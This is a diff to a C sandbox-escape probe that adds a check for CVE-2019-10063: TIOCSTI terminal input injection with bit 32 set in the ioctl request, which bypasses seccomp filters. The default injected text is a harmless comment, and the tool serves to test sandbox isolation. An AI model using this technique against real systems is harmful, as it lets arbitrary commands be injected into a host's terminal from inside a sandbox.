@@ -492,16 +492,33 @@ bpf_map(char **arguments, int count, struct result *result)
  * reads the terminal next (the host's shell, once the container is gone)
  * reads them (CVE-2017-5226 in bubblewrap). The text is a shell comment. */
 static enum outcome
-tiocsti(char **arguments, int count, struct result *result)
+push_input(unsigned long request, const char *call, char **arguments, int count,
+	   struct result *result)
 {
 	const char *text = count > 0 ? arguments[0] : "# pushed by escape-probe\n";
 
 	if (!isatty(STDIN_FILENO))
 		return failed(result, "isatty(0)");
 	for (const char *c = text; *c != '\0'; c++)
-		if (ioctl(STDIN_FILENO, TIOCSTI, c) == -1)
-			return failed(result, "ioctl(0, TIOCSTI)");
+		if (ioctl(STDIN_FILENO, request, c) == -1)
+			return failed(result, call);
 	return say(result, ESCAPED, "pushed %zu characters into the terminal's input", strlen(text));
+}
+
+static enum outcome
+tiocsti(char **arguments, int count, struct result *result)
+{
+	return push_input(TIOCSTI, "ioctl(0, TIOCSTI)", arguments, count, result);
+}
+
+/* The kernel reads ioctl's request as an unsigned int: with bit 32 set it
+ * is still TIOCSTI, but a filter that compares all 64 bits sees another
+ * request (Flatpak's CVE-2019-10063). */
+static enum outcome
+tiocsti_high(char **arguments, int count, struct result *result)
+{
+	return push_input(TIOCSTI | 1UL << 32, "ioctl(0, TIOCSTI | 1UL << 32)", arguments, count,
+			  result);
 }
 
 /* --- the host's IPC objects -------------------------------------------- */
@@ -966,6 +983,7 @@ static const struct escape escapes[] = {
 	{ "keyctl", "", 0, keyring },
 	{ "bpf", "", 0, bpf_map },
 	{ "tiocsti", "[TEXT]", 0, tiocsti },
+	{ "tiocsti-high", "[TEXT]", 0, tiocsti_high },
 	{ "shm", "ID", 1, shm_segment },
 	{ "mqueue", "/NAME", 1, message_queue },
 	{ "stdin-directory", "HOST_PATH", 1, stdin_directory },
